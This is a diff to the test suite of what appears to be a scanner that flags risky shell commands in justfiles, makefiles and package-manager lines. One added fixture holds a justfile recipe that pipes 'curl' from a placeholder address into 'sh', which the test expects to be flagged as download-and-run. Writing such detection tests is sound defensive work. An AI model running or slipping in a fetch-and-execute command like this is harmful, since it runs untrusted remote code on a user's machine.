@@ -198,6 +198,20 @@ def test_command_that_is_appended_to_a_startup_file_is_judged():
     assert mention.use == "download-and-run"
 
 
+def test_command_in_a_recipe_of_a_justfile_is_mentioned_at_its_line(read_bytes):
+    reading = read_bytes(b"url := 'http://e.invalid/x'\n\ndefault:\n    @curl -s {{url}} | sh\n", "justfile")
+    mentions = [each for outline in reading.of(Outline) for each in outline.mentions]
+    assert [(each.use, each.where.line) for each in mentions if each.use == "download-and-run"] == [
+        ("download-and-run", 4)
+    ]
+    assert reading.unread == []
+
+
+def test_recipe_of_a_justfile_for_another_program_is_an_absence(read_bytes):
+    reading = read_bytes(b"default:\n    #!/usr/bin/env node\n    run()\n", "justfile")
+    assert reading.reasons() == {UnreadReason.PROGRAM}
+
+
 def test_recipe_of_a_makefile_whose_shell_is_python_is_read_as_a_python_program(read_bytes):
     text = b"SHELL := /usr/bin/python3\n.SHELLFLAGS := -c\nall:\n\t@import os; \\\n\tos.system('touch m')\n"
     assert any(
@@ -253,7 +267,8 @@ def test_download_behind_a_coprocess_case_in_a_substitution_or_long_function_is_
     ],
 )
 def test_package_that_any_package_manager_installs_from_an_address_is_reported(text):
-    assert {mention.use for mention in collect_script_mentions(text)} == {"address"}
+    use = "run-address" if text.startswith("npx") else "address"
+    assert {mention.use for mention in collect_script_mentions(text)} == {use}
     assert not list(collect_script_mentions("npm ci\nnpm i -g yarn\ncargo install x\ngem install rake\n"))
 
 
